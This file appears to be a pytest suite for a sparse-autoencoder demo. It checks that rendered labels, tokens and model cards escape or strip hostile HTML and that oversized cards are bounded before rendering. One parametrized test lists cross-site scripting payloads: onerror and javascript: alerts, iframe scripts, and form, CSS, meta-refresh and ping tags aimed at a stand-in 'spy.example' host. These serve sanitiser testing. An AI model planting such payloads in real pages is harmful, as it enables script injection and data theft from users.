"""The markup: whatever is shown is text, and nothing in it is markup or code."""

import re
from html import unescape
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from hfsae.cards import names_section
from hfsae.demo.pages.health import card_html
from hfsae.demo.parts import cited, html, number, percent, show_control_chars
from hfsae.packaged import SHIPPED_SAE

from .conftest import HOSTILE


class Tags(HTMLParser):
    def __init__(self, text: str):
        super().__init__()
        self.found, self.texts = [], []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.texts.append(data)


def test_what_is_hostile_stays_text():
    row = {"latent": 0, "value": 1.0, "label": HOSTILE, "promotes": [HOSTILE]}
    token = {"text": HOSTILE, "special": False, "activation": 1.0, "share": 1.0, "l0": 1}
    pieces = [
        html("rows", [row, row | {"label": ""}], 1.0),
        html("strip", [token]),
        html("error", HOSTILE),
        html("pair", {"prompt": HOSTILE, "plain": HOSTILE, "steered": HOSTILE, "done": True}
             | {"plain_repetition": 0.0, "steered_repetition": 0.0, "kl": None}),
    ]  # fmt: skip
    for piece in pieces:
        tags = Tags(piece)
        assert not {tag for tag, _ in tags.found} & {"img", "script"}
        assert not any(name.startswith("on") for _, attrs in tags.found for name in attrs)
        assert "onerror" in "".join(tags.texts)


def test_panels_are_given_finished_markup_only():
    """Gradio evaluates `${...}` in a filled-in template; ours holds nothing but its value."""
    from hfsae.demo.parts import panel

    assert panel("x").html_template == "${value}"


@pytest.mark.parametrize(
    "value, shown",
    [(0, "0"), (12.345, "12.3"), (1234.5, "1,234"), (0.00012, "1.2e-04"), (-0.5, "-0.5")],
)
def test_numbers_as_people_write_them(value, shown):
    assert number(value) == shown


def test_only_an_sae_of_one_model_of_text_offers_the_tour(subject, monkeypatch):
    def header() -> str:
        return html("header", [], subject.unit, subject.runs_text)

    assert "show the tour" in header()
    monkeypatch.setattr(subject.sae.config, "model_names", ["base", "chat"])
    assert "show the tour" not in header()


def test_shares():
    assert [percent(s) for s in (0.0012, 0.05, 0.5, 1.0)] == ["0.12 %", "5 %", "50 %", "100 %"]


def test_characters_that_would_act_are_spelt_out():
    assert show_control_chars("a\nb\tc\u202e\x1b") == "a↵b⇥c\\u202e\\x1b"


@pytest.mark.parametrize(
    "name, shown",
    [
        ("sea", "“sea”"),
        ("fires on “also”", "“fires on \u2018also\u2019”"),
        ('"United" 100%; after "the"', "“'United' 100%; after 'the'”"),
    ],
)
def test_a_name_in_quotation_marks_has_none_of_its_own_kind_within(name, shown):
    assert cited(name) == shown
    view = {"n": "48", "model": "m", "site": None, "preset": name}
    assert f"{shown}, and read the text" in unescape(html("tour", view))


@pytest.mark.parametrize(
    "label, shown",
    [
        ("war", "“war”."),
        ('auto: "war" 9%', 'auto: "war" 9%.'),
        ("by a model: war", "by a model: war."),
        ("by its tokens: war", "by its tokens: war."),
        ("", "It has no label."),
    ],
)
def test_a_text_names_the_latent_that_colours_it_in_quotation_marks(label, shown):
    view = {"latent": 3, "label": label, "l0": 2.0, "fvu": None, "tokens": [], "token": None}
    assert f"{shown} 2.0 latents" in unescape(html("inspected", view | {"usual_max": None}))


def test_a_card_is_shown_without_front_matter_and_pictures():
    card = "---\nlicense: mit\n---\n# T\n![a](https://spy.example/a.png) <img src='//spy'> ok\n"
    card += "## Figures\n![b](figures/b.png)\n## Next\n![c][ref]\n"
    shown = card_html(card)
    assert (
        re.sub(r"\s+", " ", shown).strip()
        == "<h1>T</h1> <p>a ok</p> <h2>Next</h2> <p>![c][ref]</p>"
    )
    links = card_html("[a](features/a.md) [b](https://example.org) [c](#d)")
    assert "features/a.md" not in links and "https://example.org" in links and "#d" in links
    assert card_html("") == "<p>This SAE comes without a card.</p>\n"


@pytest.mark.parametrize(
    "hostile",
    [
        "<video src='https://spy.example/a'></video>",
        "<audio src='//spy.example/a' autoplay></audio>",
        "<form action='https://spy.example'><input name=token><button>Log in</button></form>",
        "<div style='position:fixed;inset:0;z-index:9999' class='hf-panel' id='header'></div>",
        "<td style='position:fixed;background:url(//spy.example)'></td>",
        "<iframe srcdoc='<script>1</script>'></iframe><object data='//spy.example'></object>",
        "<style>@import url(//spy.example)</style><link rel=stylesheet href='//spy.example'>",
        "<base href='//spy.example'><meta http-equiv=refresh content='0;url=//spy.example'>",
        "<svg><image href='//spy.example'/></svg><math></math>",
        "<p data-do='target' data-at='3' onclick='alert(1)'></p>",
        "[go](javascript:alert(1)) <a href='data:text/html,x' ping='//spy.example'></a>",
        "<img src=x onerror=alert(1)> <picture><source srcset='//spy.example'></picture>",
    ],
)
def test_a_hostile_card_fetches_sends_and_covers_nothing(hostile):
    shown = card_html(f"# T\n\n{hostile}\n\n<table><tr>{hostile}</tr></table>\n")
    assert set(re.findall(r"<(\w+)", shown)) <= {"h1", "p", "a", "table", "tbody", "tr", "td"}
    allowed = {"href", "style", "rel", "target"}
    attributes = {name for tag in re.findall(r"<\w+([^>]*)", shown) for name in _names(tag)}
    assert attributes <= allowed and "position" not in shown and "url(" not in shown
    assert not re.findall(r'href="(?!https?:)', shown)


_TABLES = ["|\n", "|a" * 40 + "\n" + "|-" * 40 + "\n|\n"]


def _names(attributes: str) -> list[str]:
    return re.findall(r'([\w-]+)="[^"]*"', attributes)


def test_what_a_card_needs_is_kept():
    card = (
        "| a | b |\n| --- | ---: |\n| `x` | **1** |\n\n[hub](https://hf.co/me)\n\n```\n<b>\n```\n"
    )
    shown = card_html(card + "<pre>\n<b>the</b> cat\n</pre>\n")
    assert '<td style="text-align:right"><strong>1</strong></td>' in shown
    assert 'href="https://hf.co/me"' in shown and "&lt;b&gt;" in shown and "<b>the</b>" in shown


@pytest.mark.parametrize(
    "piece",
    ["[", "![", "![](", "[a](", "<img ", "`", "**a*", "- ", "&", "<!--", "## Figures\n", *_TABLES],
)
def test_a_card_of_300_kb_is_bounded_before_it_is_read(piece, monkeypatch):
    given = []
    render = MarkdownIt.render
    monkeypatch.setattr(MarkdownIt, "render", lambda s, t: given.append(t) or render(s, t))
    shown = card_html(piece * (300_000 // len(piece)))
    (read,) = given
    assert len(read) <= 40_000 and read.count("[") <= 1_000 and read.count("\n") <= 1_000
    assert "too long to be shown" in shown or not read


def test_the_sentence_on_names_says_what_each_number_is():
    names = names_section(SHIPPED_SAE)
    sentence = unescape(html("names_tested", names).split("</p>")[0])
    scores = next(s for s in names["scores"] if s["title"].startswith("detection, auc"))
    own, control, untrained = scores["own"], scores["control"], scores["untrained"]
    assert f"with the latent's own name: {own}. With a control: {control}. " in sentence
    assert f"with names made in the same way: {untrained}. " in sentence
